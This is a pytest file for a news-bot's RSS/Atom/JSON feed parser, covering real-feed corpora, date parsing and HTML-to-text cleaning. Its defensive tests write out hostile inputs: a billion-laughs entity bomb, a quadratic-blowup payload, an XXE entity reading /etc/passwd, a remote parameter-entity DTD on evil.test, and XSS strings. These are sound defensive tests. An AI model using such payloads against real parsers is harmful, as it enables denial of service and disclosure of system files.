"""Feed parsing: the real-feed corpus, feedparser's test corpus, attacks and text cleaning."""

from __future__ import annotations

import ast
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest

from bot.core.errors import FeedParseError
from bot.core.model import ParsedFeed
from bot.pipeline.parse.parser import html_to_text, parse_date, parse_feed
from tests.support.data import FEEDPARSER_TESTS, FEEDS

FP_TESTS = FEEDPARSER_TESTS
FETCHED = datetime(2026, 1, 1, tzinfo=UTC)
ENTITY_REFUSAL = "feed declares XML entities (possible entity-expansion attack); refused"


def _parse(body: bytes, content_type: str | None = None) -> ParsedFeed:
    return parse_feed(
        body, url="https://news.test/feed", content_type=content_type, fetched_at=FETCHED
    )


def _declared_item_counts() -> dict[str, int]:
    """File → item count, from the corpus's own SOURCES.md table."""
    rows = re.findall(r"^\| `([^`]+\.xml)` \|.*\| (\d+) \| `[0-9a-f]+…` \|$",
                      (FEEDS / "SOURCES.md").read_text(), re.M)  # fmt: skip
    return {name: int(count) for name, count in rows if not name.startswith("_edge-cases/")}


REAL_FEEDS = sorted(_declared_item_counts().items())


def test_corpus_table_lists_every_real_feed() -> None:
    on_disk = {
        str(p.relative_to(FEEDS)) for p in FEEDS.rglob("*.xml") if "_edge-cases" not in p.parts
    }
    assert on_disk == {name for name, _ in REAL_FEEDS} and len(on_disk) == 66


@pytest.mark.parametrize(("name", "count"), REAL_FEEDS, ids=[n for n, _ in REAL_FEEDS])
def test_real_feed_yields_its_items(name: str, count: int) -> None:
    feed = _parse((FEEDS / name).read_bytes())
    assert len(feed.entries) == count
    assert feed.title
    for entry in feed.entries:
        assert entry.title and entry.link and entry.link.startswith("http")
        assert "<" not in entry.title and "&amp;" not in entry.title
        assert entry.published is None or entry.published.tzinfo == UTC
    dated = sum(1 for e in feed.entries if e.published is not None)
    assert dated >= count - 1


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("latimes-403-error-page-2021-09-20.xml", "not a feed: got an HTML page (<HTML>)"),
        (
            "placeholder-root-not-rss-2024-08-23.xml",
            "not a feed: the root element is <root>, expected <rss>, <feed> or <rdf:RDF>",
        ),
    ],
)
def test_edge_cases_are_not_feeds(name: str, message: str) -> None:
    with pytest.raises(FeedParseError) as caught:
        _parse((FEEDS / "_edge-cases" / name).read_bytes())
    assert str(caught.value) == message


def test_npr_item_details() -> None:
    feed = _parse((FEEDS / "npr" / "npr-news-2024-04-20T1232Z.xml").read_bytes())
    first = feed.entries[0]
    assert first.guid and first.link and first.link.startswith("https://npr.org/2024/04/20/")
    assert first.published is not None and first.published.year == 2024
    assert all(e.content and "<" not in e.content for e in feed.entries)
    assert any("\n\n" in e.content for e in feed.entries)


def test_bbc_ttl_becomes_seconds() -> None:
    assert (
        _parse((FEEDS / "bbc" / "bbc-news-home-2021-09-17T0924.xml").read_bytes()).ttl_seconds
        == 900
    )


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<rss version="2.0"><channel><title>&lol9;</title></channel></rss>"""
QUADRATIC = (
    b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "' + b"x" * 50_000 + b'">]>'
    b"<rss><channel><title>" + b"&a;" * 50_000 + b"</title></channel></rss>"
)
EXTERNAL = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>&xxe;</title></channel></rss>"""
PARAMETER = b"""<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://evil.test/x.dtd"> %remote;]>
<rss version="2.0"><channel><title>t</title></channel></rss>"""


@pytest.mark.parametrize(
    "body",
    [BILLION_LAUGHS, QUADRATIC, EXTERNAL, PARAMETER, BILLION_LAUGHS.decode().encode("utf-16")],
    ids=["billion-laughs", "quadratic-blowup", "external-entity", "parameter-entity", "utf-16"],
)
def test_entity_declarations_are_refused(body: bytes) -> None:
    with pytest.raises(FeedParseError) as caught:
        _parse(body)
    assert str(caught.value) == ENTITY_REFUSAL


def test_external_dtd_without_entities_is_read_but_never_fetched() -> None:
    body = b"""<?xml version="1.0"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"
 "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Old</title><link>http://old.test/</link>
<item><title>One</title><link>http://old.test/1</link></item></channel></rss>"""
    feed = _parse(body)
    assert [(e.title, e.link) for e in feed.entries] == [("One", "http://old.test/1")]


@pytest.mark.parametrize(
    ("body", "content_type", "message"),
    [
        (b"", None, "not a feed: the body is empty"),
        (b" \n\t", None, "not a feed: the body is empty"),
        (b"hello world", None, "not a feed: the body is not XML or JSON (starts 'hello world')"),
        (b"<!DOCTYPE html><html><body>x</body></html>", None, "not a feed: got an HTML page"),
        (b"<?xml version='1.0'?><!-- c --><opml/>", None, "not a feed: the root element is <opml>"),
        (b"{not json", None, "not a feed: invalid JSON"),
        (b'{"title": "x"}', None, "not a feed: JSON without a JSON Feed 'items' list"),
        (b"[1, 2]", "application/json", "not a feed: JSON without a JSON Feed 'items' list"),
        (b"<rss><channel><title>x</ti", None, "not a feed: unreadable XML"),
    ],
)  # fmt: skip
def test_not_a_feed(body: bytes, content_type: str | None, message: str) -> None:
    with pytest.raises(FeedParseError) as caught:
        _parse(body, content_type)
    assert str(caught.value).startswith(message)
    assert "\n" not in str(caught.value)


def test_rdf_rss_1_0() -> None:
    body = b"""<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
 xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel rdf:about="http://r.test/"><title>R</title><link>http://r.test/</link></channel>
<item rdf:about="http://r.test/1"><title>Drone &amp; strike</title><link>/1</link>
<description>&lt;p&gt;Lead&lt;/p&gt;</description><dc:date>2024-04-13T22:00:00+03:00</dc:date>
<dc:creator>Reporter</dc:creator></item></rdf:RDF>"""
    (entry,) = _parse(body).entries
    assert (entry.title, entry.link, entry.summary, entry.author) == (
        "Drone & strike", "https://news.test/1", "Lead", "Reporter",
    )  # fmt: skip
    assert entry.published == datetime(2024, 4, 13, 19, 0, tzinfo=UTC)


def test_atom_with_xhtml_content_and_relative_link() -> None:
    body = b"""<feed xmlns="http://www.w3.org/2005/Atom">
<title type="html">A &amp;lt;b&amp;gt;</title>
<entry><id>urn:1</id><title>T</title><link rel="alternate" href="/a/1"/>
<link rel="enclosure" href="/a/1.mp3"/><updated>2024-04-13T19:00:00Z</updated>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">
<p>One <b>bold</b></p><p>Two</p></div></content>
</entry></feed>"""
    feed = _parse(body)
    (entry,) = feed.entries
    assert feed.title == "A <b>"
    assert (entry.guid, entry.link, entry.content) == (
        "urn:1",
        "https://news.test/a/1",
        "One bold\n\nTwo",
    )
    assert entry.published == datetime(2024, 4, 13, 19, 0, tzinfo=UTC)


def test_json_feed_from_the_feedparser_corpus() -> None:
    feed = _parse((FP_TESTS / "json" / "example.json").read_bytes(), "application/feed+json")
    assert feed.title == "My Example Feed"
    assert [(e.guid, e.link) for e in feed.entries] == [
        ("2", "https://example.org/second-item"),
        ("1", "https://example.org/initial-post"),
    ]
    assert feed.entries[0].title == "post 2"
    assert feed.entries[1].content == "Hello, world!"
    assert feed.entries[1].title == "Hello, world!"


def test_future_dates_count_as_missing() -> None:
    body = b"""<rss><channel><item><title>t</title><link>http://x.test/</link>
<pubDate>Fri, 01 Jan 2100 00:00:00 GMT</pubDate></item></channel></rss>"""
    assert _parse(body).entries[0].published is None


def test_malformed_feed_is_recovered_by_the_forgiving_reader() -> None:
    body = b"""<rss version="2.0"><channel><title>caf&eacute;</title>
<item><title>Ni&ntilde;o &amp; more</title><link>http://x.test/1</link></item>
<item><title>Broken <b>tag</title><link>http://x.test/2</link></item></channel></rss>"""
    feed = _parse(body)
    assert feed.title == "café"
    assert [(e.title, e.link) for e in feed.entries] == [
        ("Niño & more", "http://x.test/1"),
        ("Broken tag", "http://x.test/2"),
    ]


@pytest.mark.parametrize(
    ("markup", "paragraphs", "text"),
    [
        (None, False, ""),
        ("plain   text\n here", False, "plain text here"),
        ("AT&amp;T &eacute; &#8217; &lt;b&gt;", False, "AT&T é \u2019 <b>"),
        ("<p>Hello <b>world</b></p><p>Again</p>", False, "Hello world Again"),
        ("<p>Hello <b>world</b></p><p>Again</p>", True, "Hello world\n\nAgain"),
        ("one<br>two<br/>three", True, "one\n\ntwo\n\nthree"),
        ("safe<script>alert(1)</script> text<style>p{}</style>", False, "safe text"),
        ("<!-- hidden -->shown", False, "shown"),
        ("<div><ul><li>a</li><li>b</li></ul></div>", True, "a\n\nb"),
        ("x <a href='javascript:alert(1)' onclick='y()'>link</a>", False, "x link"),
        ("<img src=x onerror=alert(1)>", False, ""),
    ],
)
def test_html_to_text(markup: str | None, paragraphs: bool, text: str) -> None:
    assert html_to_text(markup, paragraphs=paragraphs) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Sat, 20 Apr 2024 12:32:00 GMT", datetime(2024, 4, 20, 12, 32, tzinfo=UTC)),
        ("Thu, 16 Sep 2021 16:47:00 -0400", datetime(2021, 9, 16, 20, 47, tzinfo=UTC)),
        ("Sat, 20 Apr 2024 12:32:00 -0000", datetime(2024, 4, 20, 12, 32, tzinfo=UTC)),
        ("2021-09-16T20:01:08+00:00", datetime(2021, 9, 16, 20, 1, 8, tzinfo=UTC)),
        ("2021-09-16T20:01:08Z", datetime(2021, 9, 16, 20, 1, 8, tzinfo=UTC)),
        ("2021-09-16T22:01:08.5+02:00", datetime(2021, 9, 16, 20, 1, 8, 500000, tzinfo=UTC)),
        ("2021-09-16", datetime(2021, 9, 16, tzinfo=UTC)),
        ("16 Sep 2021 16:47:00 EDT", datetime(2021, 9, 16, 20, 47, tzinfo=UTC)),
        # neither RFC 822 nor ISO 8601: python-dateutil, whole dates only
        ("2024-04-20 12:32:00 GMT", datetime(2024, 4, 20, 12, 32, tzinfo=UTC)),
        ("2024/04/20 12:32:00", datetime(2024, 4, 20, 12, 32, tzinfo=UTC)),
        ("Fri, 2006/09/15 08:19:53 EDT", datetime(2006, 9, 15, 12, 19, 53, tzinfo=UTC)),
        ("20 April 2024", datetime(2024, 4, 20, tzinfo=UTC)),
        ("2024-04", None),
        ("2024", None),
        ("12", None),
        ("", None),
        ("yesterday", None),
        ("Sat, 99 Foo 2024", None),
    ],
)
def test_parse_date(text: str, expected: datetime | None) -> None:
    assert parse_date(text) == expected


# ── feedparser's own test corpus ──────────────────────────────────────────

_EXPECT = re.compile(r"Expect:\s*(.*)")


def _expectation(path: Path) -> str:
    match = _EXPECT.search(path.read_text("utf-8", "replace")[:2000])
    return match.group(1).strip() if match else ""


def _literal_after(expect: str, prefix: str) -> str | None:
    """The string literal an `Expect:` line compares `prefix` with, if it is a plain literal."""
    _, found, rhs = expect.partition(prefix)
    if not found:
        return None
    try:
        value = ast.literal_eval(rhs.strip())
    except (ValueError, SyntaxError):
        return None
    return value if isinstance(value, str) else None


ENTITY_CASES = [
    (p.name, value)
    for p in sorted((FP_TESTS / "entities").glob("*.xml"))
    if (value := _literal_after(_expectation(p), "feed['title'] ==")) is not None
]


@pytest.mark.parametrize(("name", "title"), ENTITY_CASES, ids=[n for n, _ in ENTITY_CASES])
def test_feedparser_entity_cases_decode_titles(name: str, title: str) -> None:
    feed = _parse((FP_TESTS / "entities" / name).read_bytes())
    assert feed.title == (html_to_text(title) or None)


_FIELDS = {
    "entries[0]['description'] ==": "summary",
    "entries[0]['summary'] ==": "summary",
    "entries[0]['title'] ==": "title",
    "entries[0]['content'][0]['value'] ==": "content",
}
# Non-standard item elements feedparser also reads (<body>, <fullitem>, xhtml:body) are
# left out: we read the RSS, RDF and Atom text elements only.
# item_content_encoded_script_nested_cdata expects a literal "<![CDATA[]]>" fragment that
# no HTML-to-text reduction keeps.
_NON_STANDARD = (
    "item_body",
    "item_fullitem",
    "item_xhtml_body",
    "item_content_encoded_script_nested_cdata",
)
SANITIZE_CASES = [
    (p.name, field, value)
    for p in sorted((FP_TESTS / "wellformed" / "sanitize").glob("*.xml"))
    if not p.name.startswith(_NON_STANDARD)
    for prefix, field in _FIELDS.items()
    if (value := _literal_after(_expectation(p), prefix)) is not None
]


def test_sanitize_sample_is_meaningful() -> None:
    assert len(SANITIZE_CASES) > 150
    assert sum(1 for name, _, _ in SANITIZE_CASES if "script" in name) >= 10


@pytest.mark.parametrize(
    ("name", "field", "expected"), SANITIZE_CASES, ids=[n for n, _, _ in SANITIZE_CASES]
)
def test_feedparser_sanitize_cases_reduce_to_the_safe_text(
    name: str, field: str, expected: str
) -> None:
    (entry,) = _parse((FP_TESTS / "wellformed" / "sanitize" / name).read_bytes()).entries
    # feedparser reports content:encoded as the description when there is none.
    got = (entry.summary or entry.content) if field == "summary" else getattr(entry, field)
    assert " ".join(got.split()) == " ".join(html_to_text(expected).split())
    assert "<script" not in got.lower() and "javascript:" not in got.lower()


WELLFORMED_DIRS = ("rss", "atom10", "rdf")


@pytest.mark.parametrize("folder", WELLFORMED_DIRS)
def test_feedparser_wellformed_files_parse_unless_they_declare_entities(folder: str) -> None:
    refused = []
    for path in sorted((FP_TESTS / "wellformed" / folder).glob("*.xml")):
        body = path.read_bytes()
        try:
            _parse(body)
        except FeedParseError as exc:
            assert str(exc) == ENTITY_REFUSAL and b"<!ENTITY" in body, path.name
            refused.append(path.name)
    assert len(refused) <= 1


def test_rss_item_fields_take_the_first_non_blank_core_element() -> None:
    body = b"""<rss version="2.0" xmlns:rss1="http://purl.org/rss/1.0/"><channel><title>T</title>
    <item><title>  </title><rss1:title>Core &amp; first</rss1:title><title>Later</title>
    <link></link><link>https://news.test/a</link><guid>g-1</guid><other>x</other></item>
    </channel></rss>"""
    (entry,) = _parse(body).entries
    assert (entry.title, entry.link, entry.guid) == ("Core & first", "https://news.test/a", "g-1")
